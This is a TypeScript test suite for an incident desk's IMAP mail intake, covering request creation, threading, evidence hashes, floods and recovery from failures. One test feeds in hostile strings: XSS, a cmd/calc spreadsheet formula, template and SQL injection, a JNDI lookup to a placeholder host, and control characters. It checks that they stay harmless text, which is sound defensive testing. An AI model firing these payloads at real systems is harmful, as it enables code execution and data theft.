import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, before, test } from "node:test";
import type { FileAnswer } from "../src/handler.ts";
import { administrator, openCase } from "./case.testkit.ts";
import { testDesk, type TestDesk } from "./desk.testkit.ts";
import { engines } from "./engines.testkit.ts";
import { dovecot, type ImapServer, imapServer } from "./imap-server.testkit.ts";

const binary = dovecot();
const skip = binary === undefined ? "skipped: no IMAP server (dovecot) found" : false;
let box: ImapServer;
before(async () => {
  if (binary !== undefined) box = await imapServer(binary);
});
after(() => box?.[Symbol.asyncDispose]());

let last = 0;
interface Written {
  from?: string;
  subject?: string;
  text?: string;
  head?: string;
  id?: string;
}

const wang = "王芳 <wang@hospital.test>";
function raw({
  from = wang,
  subject = "服务器被勒索",
  text = "单位：青山医院\n文件被加密。",
  head = "",
  id,
}: Written): string {
  const word = (one: string) => `=?utf-8?B?${Buffer.from(one).toString("base64")}?=`;
  const address = /<(.*)>/.exec(from)?.[1] ?? from;
  const name = from.replace(/<.*/, "").trim();
  const lines = [
    `From: ${name === "" ? "" : `${word(name)} `}<${address}>`,
    `Subject: ${word(subject)}`,
    `Message-ID: <${id ?? `m${++last}`}@out.test>`,
    ...(head === "" ? [] : [head]),
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(text).toString("base64"),
  ];
  return lines.join("\r\n");
}

async function withBox(desk: TestDesk, port = box.port): Promise<void> {
  const imap = { host: "127.0.0.1", port, security: "none", user: `desk${++last}`, folder: "INBOX" };
  const body = { imap, "imap.password": "secret" };
  await desk.call("settings.put", administrator, { body });
}

/** All mails of earlier tests are in the box too; each test looks only at those of its own sender. */
const bytesOf = async (file: FileAnswer) => {
  const chunks: Uint8Array[] = [];
  for await (const chunk of file.open()) chunks.push(chunk);
  return Buffer.concat(chunks);
};

for (const engine of await engines()) {
  test(
    `${engine.name}: a mail becomes a request with the earliest proof and a receipt; raw bytes and hash stay`,
    { skip },
    async () => {
      await using desk = await testDesk({}, engine.open);
      await withBox(desk);
      const officer = await desk.person("李值班", "duty-officer");
      const from = `王芳 <a${++last}@hospital.test>`;
      const address = /<(.*)>/.exec(from)?.[1] ?? "";
      const text = raw({ from, head: "Date: Sun, 1 Mar 2026 07:50:00 +0800" });
      box.deliver(text, new Date("2026-02-28T23:55:00Z"));
      await desk.desk.turns.mail();
      await desk.desk.turns.mail();
      const mine = (await desk.call("request.list", officer, { query: {} })).filter(
        ({ contact }) => contact.email === address,
      );
      const [request] = mine;
      assert.ok(request !== undefined && mine.length === 1);
      assert.deepEqual(
        [request.channel, request.organisation, request.contact.phone, Date.parse(request.proofAt)],
        ["mail", "青山医院", "", Date.parse("2026-02-28T23:50:00Z")],
      );
      const [mail] = await desk.call("mail.list", officer, { query: { request: request.id } });
      assert.ok(mail !== undefined);
      const file = await desk.call("mail.file", officer, { params: { mail: mail.id } });
      const stored = await bytesOf(file);
      assert.equal(stored.toString("utf8"), text);
      assert.equal(createHash("sha256").update(stored).digest("hex"), mail.sha256);
      const { incident } = {
        incident: (await desk.call("request.take", officer, { params: { request: request.id }, body: {} })).id,
      };
      const [item] = await desk.call("evidence.list", officer, { params: { incident } });
      assert.deepEqual([item?.sha256, item?.receivedFrom], [mail.sha256, address]);
      const receipt = (await desk.call("notice.list", officer, { params: { incident } })).find(
        ({ to }) => to.address === address,
      );
      assert.match(receipt?.subject ?? "", new RegExp(`已受理.*${request.number}`));
      assert.equal((await desk.call("mail.intake", officer)).set, true);
    },
  );

  test(
    `${engine.name}: answers, copies and floods join the request they belong to, and no line is lost`,
    { skip },
    async () => {
      await using desk = await testDesk({}, engine.open);
      await withBox(desk);
      const officer = await desk.person("李值班", "duty-officer");
      const address = `b${++last}@hospital.test`;
      const send = (change: Written, at = new Date(Date.parse("2026-03-01T00:00:00Z") + ++last * 1000)) =>
        box.deliver(raw({ from: `王芳 <${address}>`, ...change }), at);
      const id = `first${++last}`;
      send({ id });
      const first = `<${id}@out.test>`;
      await desk.desk.turns.mail();
      const requests = async () =>
        (await desk.call("request.list", officer, { query: {} })).filter(({ contact }) => contact.email === address);
      const [request] = await requests();
      assert.ok(request !== undefined);
      send({ subject: "Re: 服务器被勒索", text: "补充：赎金 2 个比特币", head: `In-Reply-To: ${first}` });
      send({ subject: "转发：服务器被勒索" });
      const { id: incident, number } = await desk.call("request.take", officer, {
        params: { request: request.id },
        body: {},
      });
      send({ subject: `关于 ${number}`, text: "又有两台主机" });
      const notice = (await desk.call("notice.list", officer, { params: { incident } })).find(
        ({ to }) => to.address === address,
      );
      send({ subject: "Re: receipt", text: "收到", head: `References: <${notice?.id}@centre.test>` });
      send({ subject: "out of office", text: "休假", head: `In-Reply-To: ${first}\r\nAuto-Submitted: auto-replied` });
      await desk.desk.turns.mail();
      assert.equal((await requests()).length, 1);
      const mails = await desk.call("mail.list", officer, { query: { request: request.id } });
      assert.deepEqual(
        mails.map(({ kind }) => kind),
        ["request", "reply", "duplicate", "reply", "reply", "automatic"],
      );
      const journal = await desk.call("incident.journal", officer, { params: { incident } });
      const written = journal.filter(({ kind }) => kind === "mail.received").map(({ data }) => String(data.body));
      assert.equal(written.length, 6);
      for (const words of ["文件被加密", "2 个比特币", "又有两台主机", "收到", "休假"])
        assert.ok(
          written.some((body) => body.includes(words)),
          words,
        );
      assert.equal((await desk.call("evidence.list", officer, { params: { incident } })).length, 6);
      const told = (await desk.call("notice.list", officer, { params: { incident } })).filter(({ subject }) =>
        subject.includes("收到新邮件"),
      );
      assert.equal(told.length, 3, "people are told of what people wrote");

      const flood = `c${++last}@hospital.test`;
      for (let n = 0; n < 14; n++)
        box.deliver(raw({ from: flood, subject: `告警 ${n}`, text: `第 ${n} 条` }), new Date("2026-03-01T00:00:00Z"));
      await desk.desk.turns.mail();
      const mine = (await desk.call("request.list", officer, { query: {} })).filter(
        ({ contact }) => contact.email === flood,
      );
      assert.equal(mine.length, 10);
      const all = await desk.call("mail.list", officer, { query: { limit: 500 } });
      assert.equal(all.filter(({ fromAddress }) => fromAddress === flood).length, 14);
    },
  );

  test(
    `${engine.name}: a stranger who names our number opens a request of his own; hostile words stay words; what answers by itself gets no answer`,
    { skip },
    async () => {
      await using desk = await testDesk({}, engine.open);
      await withBox(desk);
      const officer = await desk.person("李值班", "duty-officer");
      const { incident } = await openCase(desk, officer);
      const { number } = await desk.call("incident.get", officer, { params: { incident } });
      const stranger = `d${++last}@evil.test`;
      const hostile = `<script>alert(1)</script> ${number} \u202e=cmd|' /C calc'!A0`;
      box.deliver(
        raw({ from: stranger, subject: hostile, text: "{{7*7}} ${jndi:ldap://x} ' or 1=1 --\u0000\u001b[2J" }),
        desk.now(),
      );
      const robot = `e${++last}@robot.test`;
      box.deliver(raw({ from: robot, subject: "告警", head: "Auto-Submitted: auto-generated" }), desk.now());
      const bounce = `f${++last}@robot.test`;
      box.deliver(raw({ from: bounce, subject: "Undelivered", head: "Return-Path: <>" }), desk.now());
      box.deliver(Buffer.from("\u0000\u0001 no mail at all\n\n\n"), desk.now());
      await desk.desk.turns.mail();
      const all = await desk.call("request.list", officer, { query: {} });
      const his = all.find(({ contact }) => contact.email === stranger);
      assert.ok(his !== undefined && his.incidentId === undefined);
      assert.match(his.description, /^<script>alert\(1\)<\/script> SEC-\S+ =cmd/);
      assert.doesNotMatch(his.description, /[\u0000\u001b\u202e]/);
      const journal = await desk.call("incident.journal", officer, { params: { incident } });
      assert.ok(journal.every(({ kind }) => kind !== "mail.received"));
      const mails = await desk.call("mail.list", officer, { query: { limit: 500 } });
      const by = (address: string) => mails.find(({ fromAddress }) => fromAddress === address);
      assert.deepEqual([by(robot)?.kind, by(bounce)?.kind, by(bounce)?.requestId], ["request", "automatic", undefined]);
      const machine = all.find(({ id }) => id === by(robot)?.requestId);
      assert.equal(machine?.contact.email, "", "no receipt goes to a machine");
      assert.ok(mails.some(({ body, kind }) => kind === "request" && body.includes("no mail at all")));
    },
  );

  test(
    `${engine.name}: a killed process and a renumbered mailbox take nothing twice and lose nothing`,
    { skip },
    async () => {
      let dies = true;
      const { imapBox } = await import("../src/mail/imap-box.ts");
      const real = imapBox();
      const mailBox: typeof real = {
        read: (account, since, take) =>
          real.read(account, since, async (mail) => {
            await take(mail);
            if (dies) throw new Error("killed after the first mail");
          }),
      };
      await using desk = await testDesk({ mailBox }, engine.open);
      await withBox(desk);
      const officer = await desk.person("李值班", "duty-officer");
      for (let tries = 0; tries < 3; tries++) await assert.rejects(desk.desk.turns.mail());
      dies = false;
      await desk.desk.turns.mail();
      const listed = async () =>
        (await desk.call("mail.list", officer, { query: { limit: 500 } })).map(({ sha256 }) => sha256);
      const before = await listed();
      assert.equal(new Set(before).size, before.length);
      assert.ok(before.length >= 20);
      box.renumber();
      box.deliver(raw({ from: `g${++last}@hospital.test` }), desk.now());
      await desk.desk.turns.mail();
      assert.equal((await listed()).length, before.length + 1);
    },
  );

  test(`${engine.name}: when mail cannot be fetched people are told once, and the state is shown`, async () => {
    await using desk = await testDesk({}, engine.open);
    await withBox(desk, 1);
    const officer = await desk.person("李值班", "duty-officer");
    const told = async () => {
      const rows = await desk.options.records.db.selectFrom("notice").select("subject").execute();
      return rows.filter(({ subject }) => subject.includes("无法收取")).length;
    };
    await assert.rejects(desk.desk.turns.mail());
    assert.equal(await told(), 0);
    desk.pass(6);
    for (let n = 0; n < 3; n++) await assert.rejects(desk.desk.turns.mail());
    assert.equal(await told(), 1);
    const state = await desk.call("mail.intake", officer);
    assert.ok(state.failingSince !== undefined && (state.failure ?? "").length > 0);
    assert.doesNotMatch(JSON.stringify(state), /secret/);
  });
}
